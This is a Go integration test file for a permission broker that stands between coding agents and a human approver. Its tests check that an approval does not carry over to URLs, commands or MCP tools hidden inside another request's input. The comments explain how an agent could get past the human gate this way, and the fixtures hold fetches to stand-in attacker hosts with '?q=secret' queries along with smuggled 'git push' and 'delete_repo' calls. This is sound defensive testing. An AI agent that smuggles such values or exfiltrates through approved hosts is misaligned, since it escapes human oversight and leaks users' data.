//go:build linux

package integration

import (
	"fmt"
	"testing"
)

// TestAlwaysOnACommandRemembersNoURLItCarries: an agent's shell call whose
// input also names a URL the human is not shown as what it asks about
// (claude-agent-acp's Bash with a `url` beside `command`) is answered
// "always" for the command; the broker used to remember the URL's host (as
// it did for Codex's network approvals), so a later fetch there, carrying
// what the agent wants out in its query, was allowed without anyone asked.
// No request that names both a command and a URL remembers either, whichever
// "always" option is chosen; the answer itself still applies once.
func TestAlwaysOnACommandRemembersNoURLItCarries(t *testing.T) {
	t.Parallel()
	d := startDecider(t, deciderOptions{})
	cases := []struct {
		name, toolCall, options, chosen string
	}{
		{"claude_bash_with_a_url", `{"toolCallId":"toolu_u1","kind":"execute","title":"npm test","rawInput":{"command":"npm test","url":"https://evil.example/x"}}`, claudeNewOptions, "allow-with-updates"},
		{"claude_older_always", `{"toolCallId":"toolu_u2","kind":"execute","title":"go vet ./...","rawInput":{"command":"go vet ./...","url":"https://evil2.example/"}}`, claudeOptions, "allow_always"},
		{"gemini_for_good", `{"toolCallId":"run_shell_command-u3","kind":"execute","title":"make docs","status":"pending","rawInput":{"command":"make docs","url":"https://evil3.example/"}}`, geminiSaveOptions, "proceed_always_and_save"},
		{"codex_for_the_session", codexNetwork("u4", "curl https://evil4.example", "evil4.example"), codexNetworkOptions, "allow_for_session"},
		{"codex_host_amendment", `{"toolCallId":"call_u5","kind":"execute","status":"pending","title":"make lint","rawInput":{"command":"make lint","cwd":"$CWD","url":"https://evil5.example"}}`, codexNetworkOptions, "apply_network_policy_amendment:0"},
	}
	for i, c := range cases {
		if !d.step(t, c.name, func() {
			id := fmt.Sprintf(`"u%d"`, i)
			d.asked(permission(id, c.toolCall, c.options), answer(id, c.chosen))
		}) {
			return
		}
	}
	// Every host named is still asked about, and so is every command.
	hosts := []string{"evil.example", "evil2.example", "evil3.example", "evil4.example", "evil5.example"}
	for i, h := range hosts {
		id := fmt.Sprintf(`"f%d"`, i)
		fetch := fmt.Sprintf(`{"toolCallId":"toolu_f%d","kind":"fetch","title":"Fetch https://%s/?q=secret","rawInput":{"url":"https://%s/?q=secret","prompt":"x"}}`, i, h, h)
		if !d.step(t, "fetch_"+h, func() { d.asked(permission(id, fetch, claudeOptions), answer(id, "reject")) }) {
			return
		}
	}
	for i, cmd := range []string{"npm test", "go vet ./...", "make docs", "make lint"} {
		id := fmt.Sprintf(`"c%d"`, i)
		if !d.step(t, "command_"+cmd, func() {
			d.asked(permission(id, execCall(fmt.Sprintf("toolu_c%d", i), cmd), claudeOptions), answer(id, "reject"))
		}) {
			return
		}
	}
	d.finish()
	if got := rememberedEntries(t, d.state); len(got) != 0 {
		t.Errorf("remembered %v, want nothing", got)
	}
}

// TestAlwaysRemembersNoCommandHiddenInAnotherRequest: a request shown as an
// MCP call, an edit or a todo list, whose input also carries a `command`,
// answered "always" for what it is shown as: the broker used to remember
// the command (Derive reads the command first), so a later shell call of
// it was allowed though no human was ever shown it as a command. Only an
// execute request's command is remembered.
func TestAlwaysRemembersNoCommandHiddenInAnotherRequest(t *testing.T) {
	t.Parallel()
	d := startDecider(t, deciderOptions{})
	cases := []struct {
		name, toolCall, options, chosen, command string
	}{
		{"an_mcp_call", `{"toolCallId":"toolu_h1","kind":"other","title":"mcp__github__get_issue","rawInput":{"issue_number":1,"command":"make deploy"}}`, claudeNewOptions, "allow-with-updates", "make deploy"},
		{"an_edit", `{"toolCallId":"toolu_h2","kind":"edit","title":"Edit src/a.ts","rawInput":{"file_path":"$CWD/src/a.ts","old_string":"a","new_string":"b","command":"make release"}}`, claudeNewOptions, "allow-with-updates", "make release"},
		{"a_todo_list", `{"toolCallId":"toolu_h3","kind":"other","title":"TodoWrite","rawInput":{"todos":[],"command":"make publish"}}`, claudeNewOptions, "allow-with-updates", "make publish"},
		{"no_kind", `{"toolCallId":"toolu_h4","title":"Update the changelog","rawInput":{"command":["make","tag"]}}`, claudeOptions, "allow_always", "make tag"},
		{"a_read_with_an_argv", `{"toolCallId":"toolu_h5","kind":"read","title":"Read README.md","rawInput":{"file_path":"$CWD/README.md","command":["git","push","origin","main"]}}`, geminiSaveOptions, "proceed_always_and_save", "git push origin main"},
		{"codex_mcp_by_server_and_tool", `{"toolCallId":"call_h6","kind":"execute","title":"make bump","rawInput":{"server":"github","tool":"get_issue","command":"make bump"}}`, codexMCPOptions, "allow_always", "make bump"},
	}
	for i, c := range cases {
		if !d.step(t, c.name, func() {
			id := fmt.Sprintf(`"h%d"`, i)
			d.asked(permission(id, c.toolCall, c.options), answer(id, c.chosen))
			again := fmt.Sprintf(`"x%d"`, i)
			d.asked(permission(again, execCall(fmt.Sprintf("toolu_x%d", i), c.command), claudeOptions), answer(again, "reject"))
		}) {
			return
		}
	}
	d.finish()
	for _, e := range rememberedEntries(t, d.state) {
		if e["command"] != "" {
			t.Errorf("remembered the command %q of %q", e["command"], e["request"])
		}
	}
}

// TestAlwaysRemembersNoToolOrHostHiddenInAnotherRequest: as for a command,
// an MCP tool or a URL in the input of a request shown as an edit, a fetch
// or a todo list is not remembered when the human answers it "always": a
// later call of that tool or fetch there is asked.
func TestAlwaysRemembersNoToolOrHostHiddenInAnotherRequest(t *testing.T) {
	t.Parallel()
	d := startDecider(t, deciderOptions{})
	fetchOf := func(id, url string) string {
		return fmt.Sprintf(`{"toolCallId":%q,"kind":"fetch","title":"Fetch %s","rawInput":{"url":%q,"prompt":"x"}}`, id, url, url)
	}
	mcpCall := func(id, server, tool string) string {
		return fmt.Sprintf(`{"toolCallId":%q,"kind":"other","title":"mcp__%s__%s","rawInput":{}}`, id, server, tool)
	}
	cases := []struct {
		name, toolCall, later string
	}{
		{"a_url_in_an_edit", `{"toolCallId":"toolu_m1","kind":"edit","title":"Edit src/a.ts","rawInput":{"file_path":"$CWD/src/a.ts","old_string":"a","new_string":"b","url":"https://evil.example/"}}`, fetchOf("toolu_l1", "https://evil.example/?q=secret")},
		{"a_url_in_a_todo_list", `{"toolCallId":"toolu_m2","kind":"other","title":"TodoWrite","rawInput":{"todos":[],"url":"https://evil2.example/"}}`, fetchOf("toolu_l2", "https://evil2.example/?q=secret")},
		{"a_tool_in_an_edit", `{"toolCallId":"toolu_m3","kind":"edit","title":"Edit src/b.ts","rawInput":{"file_path":"$CWD/src/b.ts","old_string":"a","new_string":"b","server":"github","tool":"delete_repo"}}`, mcpCall("toolu_l3", "github", "delete_repo")},
		{"a_tool_in_a_fetch", `{"toolCallId":"toolu_m4","kind":"fetch","title":"Fetch https://docs.rs/x","rawInput":{"url":"https://docs.rs/x","server":"github","tool":"delete_branch"}}`, mcpCall("toolu_l4", "github", "delete_branch")},
		{"a_url_in_an_mcp_call", `{"toolCallId":"toolu_m5","kind":"other","title":"mcp__github__get_issue","rawInput":{"url":"https://evil3.example/"}}`, fetchOf("toolu_l5", "https://evil3.example/?q=secret")},
	}
	for i, c := range cases {
		if !d.step(t, c.name, func() {
			id := fmt.Sprintf(`"m%d"`, i)
			d.asked(permission(id, c.toolCall, claudeNewOptions), answer(id, "allow-with-updates"))
			later := fmt.Sprintf(`"l%d"`, i)
			d.asked(permission(later, c.later, claudeOptions), answer(later, "reject"))
		}) {
			return
		}
	}
	d.finish()
	if got := rememberedEntries(t, d.state); len(got) != 0 {
		t.Errorf("remembered %v, want nothing", got)
	}
}

// TestAllowOnceCoversNoCommandHiddenInAnotherRequest: a human's allow of a
// request shown as an MCP call or an edit, whose input also carries a
// `command`, used to count as the approval of that command, so the
// terminal/create that followed ran without being asked. It is asked; an
// allowed shell call still covers its terminal.
func TestAllowOnceCoversNoCommandHiddenInAnotherRequest(t *testing.T) {
	t.Parallel()
	d := startDecider(t, deciderOptions{rules: heldRules})
	steps := []struct{ name, toolCall, command, args string }{
		{"an_mcp_call", `{"toolCallId":"toolu_a1","title":"mcp__github__get_issue","kind":"other","rawInput":{"issue_number":1,"command":"make deploy"}}`, "make deploy", `"command":"make","args":["deploy"]`},
		{"an_edit", `{"toolCallId":"toolu_a2","title":"Edit src/a.ts","kind":"edit","rawInput":{"file_path":"$CWD/src/a.ts","old_string":"a","new_string":"b","command":"make release"}}`, "make release", `"command":"make","args":["release"]`},
		{"no_kind", `{"toolCallId":"toolu_a3","title":"Update the changelog","rawInput":{"command":["make","tag"]}}`, "make tag", `"command":"make","args":["tag"]`},
	}
	for i, s := range steps {
		if !d.step(t, s.name, func() {
			id := fmt.Sprint(100 + 2*i)
			d.asked(permission(id, s.toolCall, claudeOptions), answer(id, "allow"))
			d.heldAsked(d.t, terminalReq(fmt.Sprint(101+2*i), s.args+`,"cwd":"$CWD"`), s.command, "reject_once", "")
		}) {
			return
		}
	}
	if !d.step(t, "an_mcp_tools_path_covers_no_write_by_the_agent", func() {
		d.asked(permission(`300`, `{"toolCallId":"toolu_c1","title":"mcp__github__get_issue","kind":"other","rawInput":{"file_path":"$CWD/CHANGELOG.md"}}`, claudeOptions), answer(`300`, "allow"))
		d.heldAsked(d.t, writeReq(`301`, "$CWD/CHANGELOG.md"), d.cwd+"/CHANGELOG.md", "reject_once", "")
	}) {
		return
	}
	if !d.step(t, "a_todo_lists_path_covers_no_write_by_the_agent", func() {
		d.asked(permission(`302`, `{"toolCallId":"toolu_c2","title":"TodoWrite","kind":"other","rawInput":{"todos":[],"file_path":"$CWD/CHANGELOG.md"}}`, claudeOptions), answer(`302`, "allow"))
		d.heldAsked(d.t, writeReq(`303`, "$CWD/CHANGELOG.md"), d.cwd+"/CHANGELOG.md", "reject_once", "")
	}) {
		return
	}
	if !d.step(t, "an_edit_still_covers_its_write", func() {
		d.asked(permission(`304`, `{"toolCallId":"toolu_c3","title":"Write CHANGELOG.md","kind":"edit","rawInput":{"file_path":"$CWD/CHANGELOG.md","content":"x"}}`, claudeOptions), answer(`304`, "allow"))
		d.forwardedAtOnce(writeReq(`305`, "$CWD/CHANGELOG.md"), `{"jsonrpc":"2.0","id":305,"result":null}`)
	}) {
		return
	}
	if !d.step(t, "a_shell_call_still_covers_its_terminal", func() {
		d.asked(permission(`200`, `{"toolCallId":"toolu_b1","title":"make deploy","kind":"execute","rawInput":{"command":"make deploy"}}`, claudeOptions), answer(`200`, "allow"))
		d.forwardedAtOnce(terminalReq(`201`, `"command":"make","args":["deploy"],"cwd":"$CWD"`), `{"jsonrpc":"2.0","id":201,"result":{"terminalId":"term_201"}}`)
	}) {
		return
	}
	d.finish()
}
